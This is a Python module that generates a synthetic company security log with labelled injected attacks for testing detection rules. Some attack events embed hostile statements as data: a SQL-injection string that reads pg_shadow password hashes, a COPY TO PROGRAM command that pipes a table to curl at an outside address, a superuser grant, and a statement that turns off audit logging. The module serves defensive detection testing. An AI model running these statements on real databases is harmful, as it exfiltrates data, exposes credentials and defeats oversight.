"""A made-up company's security log with attacks in it that are known: ordinary life from a seed, attacks on top.

Whoever wrote the rules wrote this too, which flatters them: `odd` is a configuration that the thresholds were not
looked at with.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass, field

from analysis.detections.events import DAY, HOUR, MINUTE, SECOND, Event

START = 20_500 * DAY + 4 * DAY  # a Monday
_CITIES = ((52.52, 13.4, "DE"), (48.86, 2.35, "FR"), (40.71, -74.0, "US"), (51.5, -0.12, "GB"))
EGRESS = "198.51.100.0/24"
_TABLES = [f"shop.t{number}" for number in range(120)]


@dataclass(frozen=True)
class Attack:
    """What has to be found: the rule, and when it began and ended."""

    rule: str
    begins: int
    ends: int
    entities: frozenset[str] = frozenset()
    ids: frozenset[str] = frozenset()


@dataclass
class Replay:
    """A log: `events` in the order of time, `attacks` in it."""

    events: list[Event] = field(default_factory=list)
    attacks: list[Attack] = field(default_factory=list)


@dataclass(frozen=True)
class Company:
    """How many live in it and how; `reads` is how much each person asks for on a day."""

    people: int = 50
    services: int = 6
    days: int = 7
    reads: int = 40
    service_reads: int = 400
    seed: int = 7
    odd: bool = False


class _Writer:
    def __init__(self, company: Company) -> None:
        self.company = company
        self.random = random.Random(company.seed)
        self.replay = Replay()

    def add(self, at: float, kind: str, actor: str, **more: object) -> None:
        number = len(self.replay.events)
        self.replay.events.append(Event(id=f"e{number}", at=int(at), kind=kind, actor=actor, **more))  # type: ignore[arg-type]


def written(company: Company) -> Replay:
    """The log of a company, with one attack of each sort in its second half."""
    writer = _Writer(company)
    for day in range(company.days):
        for person in range(company.people):
            _person(writer, person, START + day * DAY, day)
        for service in range(company.services):
            _service(writer, service, START + day * DAY)
    _attacks(writer, START + (company.days - 2) * DAY)
    writer.replay.events.sort(key=lambda event: (event.at, event.id))
    return writer.replay


def _person(writer: _Writer, person: int, midnight: int, day: int) -> None:
    pick, name = writer.random, f"p{person}"
    is_night = person % 17 == 0 and day % 3 == 0  # on call
    if day % 7 >= 5 and not is_night:
        return
    latitude, longitude, country = _CITIES[person % (4 if writer.company.odd else 2)]
    at = midnight + (pick.gauss(8.5, 0.7) if not is_night else pick.uniform(1, 4)) * HOUR
    address = f"10.{person % 200}.1.{pick.randint(2, 250)}"
    where = {"latitude": latitude, "longitude": longitude, "country": country, "network_owner": "office"}
    if pick.random() < (0.5 if writer.company.odd else 0.2):  # through the VPN, which comes out elsewhere
        address, where = f"198.51.100.{pick.randint(2, 250)}", {"latitude": 37.8, "longitude": -122.4, "country": "US"}
    for _ in range(pick.choices((0, 1, 2, 3), (80, 14, 4, 2))[0]):
        writer.add(at, "authn_login_fail", name, address=address)
        at += pick.uniform(4, 30) * SECOND
    token = f"token-{name}-{day}"
    writer.add(at, "authn_login_success", name, address=address, application="studio", token=token, **where)
    for _ in range(max(1, int(pick.gauss(writer.company.reads, writer.company.reads / 5)))):
        moment = at + pick.random() * 8.5 * HOUR
        table = _TABLES[(person * 7 + int(pick.expovariate(0.3))) % len(_TABLES)]
        rows = min(40_000, int(pick.lognormvariate(4, 1.5)))
        writer.add(moment, "sensitive_read", name, address=address, object=table, rows=rows, token=token)
    if pick.random() < 0.1:
        moment = at + pick.random() * 8 * HOUR
        writer.add(moment, "authz_fail", name, address=address, object=pick.choice(_TABLES))
    if pick.random() < 0.05:
        writer.add(at + 3 * HOUR, "input_validation_fail", name, address=address, input="O'Brien & sons; 10% or more")
    if pick.random() < 0.03:
        writer.add(at + 2 * HOUR, "sensitive_delete", name, address=address, object="scratch.mine")


def _service(writer: _Writer, service: int, midnight: int) -> None:
    pick, name = writer.random, f"svc{service}"
    address = f"10.250.0.{service + 2}"
    for number in range(writer.company.service_reads):
        at = midnight + (number + pick.random()) * DAY / writer.company.service_reads
        text = f"SELECT a, b FROM shop.t{service} WHERE id = {pick.randint(1, 10**6)}"
        if number % 50 == 0:
            writer.add(at, "authn_login_success", name, address=address, application="worker", is_service=True)
        writer.add(at + SECOND, "sql_statement", name, address=address, statement=text, is_service=True)


def _attacks(writer: _Writer, midnight: int) -> None:
    begin = midnight + int(10.3 * HOUR)
    for number, attack in enumerate(ATTACKS):
        at = begin + number * 47 * MINUTE
        before = len(writer.replay.events)
        entities = frozenset(attack(writer, at))
        events = writer.replay.events[before:]
        rule = attack.__name__.replace("_td", "TD-")
        times = [event.at for event in events]
        writer.replay.attacks.append(
            Attack(rule, min(times), max(times), entities, frozenset(event.id for event in events))
        )


def _td01(writer: _Writer, at: int) -> Iterator[str]:
    for number in range(12):
        writer.add(at + number * 20 * SECOND, "authn_login_fail", "p3", address=f"203.0.113.{number % 3}")
    yield "p3"


def _td02(writer: _Writer, at: int) -> Iterator[str]:
    for number in range(24):
        writer.add(at + number * 20 * SECOND, "authn_login_fail", f"p{number % 4}", address="203.0.113.20")
    yield "203.0.113.20"


def _td03(writer: _Writer, at: int) -> Iterator[str]:
    for number in range(15):
        writer.add(at + number * 15 * SECOND, "authn_login_fail", "p5", address="203.0.113.30")
    writer.add(at + 5 * MINUTE, "authn_login_success", "p5", address="203.0.113.30")
    yield "p5"


def _td04(writer: _Writer, at: int) -> Iterator[str]:
    for number in range(14):
        writer.add(at + number * 30 * SECOND, "authn_login_fail", f"p{number + 10}", address="203.0.113.40")
    yield "203.0.113.40"


def _td05(writer: _Writer, at: int) -> Iterator[str]:
    for number in range(80):
        writer.add(at + number * 6 * SECOND, "authn_login_fail", f"u{number}", address=f"203.0.{number}.7")
    yield "all accounts"


def _td06(writer: _Writer, at: int) -> Iterator[str]:
    for minutes, (latitude, longitude) in ((0, (52.5, 13.4)), (40, (35.7, 139.7))):
        where = {"latitude": latitude, "longitude": longitude}
        address = f"203.0.113.{60 + minutes}"
        writer.add(at + minutes * MINUTE, "authn_login_success", "p8", address=address, **where)
    yield "p8"


def _td07(writer: _Writer, at: int) -> Iterator[str]:
    writer.add(at, "authn_login_success", "intruder", address="10.3.1.9", application="studio")
    yield "intruder"


def _td08(writer: _Writer, at: int) -> Iterator[str]:
    writer.add(at, "authn_login_success", "p9", address="192.0.2.8", application="sqlmap")
    yield "p9"


def _td09(writer: _Writer, at: int) -> Iterator[str]:
    writer.add(at - at % DAY + 22.5 * HOUR, "sensitive_delete", "p12", address="10.12.1.3", object="shop.t5")
    yield "p12"


def _td10(writer: _Writer, at: int) -> Iterator[str]:
    writer.add(at, "privilege_permissions_changed", "p13", target="p13", statement="ALTER ROLE p13 SUPERUSER")
    yield "p13"


def _td11(writer: _Writer, at: int) -> Iterator[str]:
    for number in range(10):
        writer.add(at + number * MINUTE, "sensitive_read", "p14", address="10.14.1.3", object="shop.t1", rows=300_000)
    yield "p14"


def _td13(writer: _Writer, at: int) -> Iterator[str]:
    for number in range(60):
        kind = "authz_fail" if number % 3 else "sensitive_read"
        writer.add(at + number * 4 * SECOND, kind, "p15", address="10.15.1.3", object=f"shop.t{number}")
    yield "p15"


def _td14(writer: _Writer, at: int) -> Iterator[str]:
    for number in range(6):
        address = "10.16.1.4" if number % 2 else "203.0.113.140"
        writer.add(
            at + number * 20 * SECOND, "sensitive_read", "p16", address=address, token="stolen", object="shop.t3"
        )
    yield "stolen"


def _td15(writer: _Writer, at: int) -> Iterator[str]:
    for number in range(4):
        writer.add(at + number * MINUTE, "session_use_after_expire", "p18", token="ended", address="203.0.113.150")
    yield "ended"


def _td16(writer: _Writer, at: int) -> Iterator[str]:
    tried = "1' UNION SELECT usename, passwd FROM pg_shadow--"
    writer.add(at, "input_validation_fail", "p19", address="10.19.1.4", input=tried)
    writer.add(at + 3 * SECOND, "sql_error", "p19", error="42601")
    yield "p19"


def _td17(writer: _Writer, at: int) -> Iterator[str]:
    text = "COPY (SELECT * FROM shop.t1) TO PROGRAM 'curl --data-binary @- http://203.0.113.9'"
    writer.add(at, "sql_statement", "svc1", statement=text, is_service=True, address="10.250.0.3")
    yield "svc1"


def _td18(writer: _Writer, at: int) -> Iterator[str]:
    writer.add(at, "sys_monitor_disabled", "p20", statement="ALTER SYSTEM SET pgaudit.log = 'none'")
    yield "p20"


def _td19(writer: _Writer, at: int) -> Iterator[str]:
    for number in range(4):
        writer.add(at + number * MINUTE, "sensitive_delete", "p21", object=f"shop.t{number}", address="10.21.1.4")
    yield "p21"


def _td20(writer: _Writer, at: int) -> Iterator[str]:
    writer.add(at, "sensitive_read", "p22", object="shop.salaries_old", address="10.22.1.4", rows=3)
    yield "shop.salaries_old"


# TD-12 needs weeks of a past and has a test of its own.
ATTACKS = (
    _td01, _td02, _td03, _td04, _td05, _td06, _td07, _td08, _td09, _td10,
    _td11, _td13, _td14, _td15, _td16, _td17, _td18, _td19, _td20,
)  # fmt: skip
